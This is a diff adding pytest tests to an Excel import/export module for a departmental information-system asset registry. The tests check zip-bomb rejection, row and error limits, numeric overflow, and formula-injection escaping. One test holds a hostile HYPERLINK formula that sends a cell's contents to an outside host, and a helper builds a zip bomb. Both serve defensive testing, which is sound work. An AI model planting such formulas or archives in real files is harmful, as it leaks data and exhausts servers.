@@ -1,12 +1,13 @@
 """普查 Excel: the template a clerk fills, all-or-nothing import with every bad row named, re-import updates."""
 
 import io
+import zipfile
 from typing import Any
 
 import pytest
 from openpyxl import load_workbook
 
-from domain.assets import services
+from domain.assets import excel, services
 from domain.assets.excel import AssetImportError, assets_import_xlsx, assets_template_xlsx
 from domain.assets.models import Column, Database, DataTable, InformationSystem
 from tests import factories
@@ -194,3 +195,94 @@ def test_a_departments_registry_round_trips_through_the_template(department):
         True,
     )
     assert registry() == sorted(before * 2)
+
+
+def with_member(buffer: io.BytesIO, name: str, size: int) -> io.BytesIO:
+    """The workbook with one more zip member of `size` zero bytes (it compresses to almost nothing)."""
+    with zipfile.ZipFile(buffer, "a", compression=zipfile.ZIP_DEFLATED) as archive:
+        with archive.open(name, "w") as member:
+            chunk = bytes(1024 * 1024)
+            for _ in range(size // len(chunk)):
+                member.write(chunk)
+    buffer.seek(0)
+    return buffer
+
+
+def test_a_file_that_unpacks_to_more_than_100_mb_is_refused_unread(department):
+    """A small upload whose members unpack to over 100 MB (a zip bomb) is refused before it is opened,
+    with one error saying so; nothing is imported."""
+    upload = with_member(workbook(GOOD), "xl/media/image1.bin", 101 * 1024 * 1024)
+    assert len(upload.getvalue()) < 2 * 1024 * 1024
+
+    with pytest.raises(AssetImportError) as caught:
+        assets_import_xlsx(file=upload, department_id=department.pk)
+
+    assert [(e.sheet, e.row) for e in caught.value.errors] == [("文件", 0)]
+    assert "100 MB" in caught.value.errors[0].message
+    assert InformationSystem.objects.count() == 0
+
+
+def test_a_sheet_with_more_rows_than_allowed_is_refused(department, monkeypatch):
+    """A sheet holding more data rows than MAX_ROWS is one error at the first row over the limit, naming
+    the limit; rows are not read further and nothing is imported."""
+    monkeypatch.setattr(excel, "MAX_ROWS", 2)
+    systems = [[f"系统{n}", "在用", None, None, None, None, None, None] for n in range(5)]
+
+    with pytest.raises(AssetImportError) as caught:
+        assets_import_xlsx(file=workbook({"信息系统": systems}), department_id=department.pk)
+
+    assert [(e.sheet, e.row) for e in caught.value.errors] == [("信息系统", 4)]
+    assert "超过 2 行" in caught.value.errors[0].message
+    assert InformationSystem.objects.count() == 0
+
+
+def test_the_error_list_stops_at_500_and_counts_the_rest(department):
+    """A file with 600 bad rows lists the first 500 (in row order) and says how many more there are."""
+    systems = [[f"系统{n}", "建设中", None, None, None, None, None, None] for n in range(600)]
+
+    with pytest.raises(AssetImportError) as caught:
+        assets_import_xlsx(file=workbook({"信息系统": systems}), department_id=department.pk)
+
+    error = caught.value
+    assert (len(error.errors), error.more, error.total) == (500, 100, 600)
+    assert [e.row for e in error.errors] == list(range(2, 502))
+    assert str(error).endswith("还有 100 个错误")
+
+
+def test_numbers_too_big_for_the_registry_are_row_errors(department):
+    """A 长度 of 3000000000, a 用户数 over 2147483647 or a 数据量 of 10¹³ MB is reported on its row and
+    column like any other mistake, instead of failing the import in the database."""
+    rows = {
+        "信息系统": [["低保救助系统", "在用", None, None, 3_000_000_000, None, None, None]],
+        "数据库": [["低保救助系统", "dibao", "MySQL", None, 10**13, None]],
+        "数据表": [["低保救助系统", "dibao", "family", None, None, None]],
+        "字段": [["低保救助系统", "dibao", "family", "sfzh", "char", 3_000_000_000, "否", None, None]],
+    }
+
+    with pytest.raises(AssetImportError) as caught:
+        assets_import_xlsx(file=workbook(rows), department_id=department.pk)
+
+    found = {(e.sheet, e.row, e.column) for e in caught.value.errors}
+    # The table row then names a database the file holds no valid row of: reported too.
+    assert found == {
+        ("信息系统", 2, "用户数"),
+        ("数据库", 2, "数据量（MB）"),
+        ("数据表", 2, "数据库名称"),
+        ("字段", 2, "长度"),
+    }
+    assert "2147483647" in next(e.message for e in caught.value.errors if e.column == "长度")
+
+
+def test_a_comment_from_a_probed_database_is_exported_as_text_not_a_formula(department):
+    """A column comment the probed database carries (anyone who can comment there controls it) reads back as
+    text in the department's workbook, never as a live formula."""
+    hostile = '=HYPERLINK("http://x/?"&A1,"点此")'
+    system = services.system_register(department_id=department.pk, data={"name": "人口库", "status": "in_use"})
+    database = services.database_register(system_id=system.pk, data={"name": "rk"})
+    table = services.table_register(database_id=database.pk, data={"name": "person", "comment": hostile})
+    services.column_register(table_id=table.pk, data={"name": "xm", "data_type": "varchar", "comment": hostile})
+
+    book = load_workbook(io.BytesIO(assets_template_xlsx(department_id=department.pk)))
+
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value == hostile]
+    assert len(cells) == 2 and {cell.data_type for cell in cells} == {"s"}
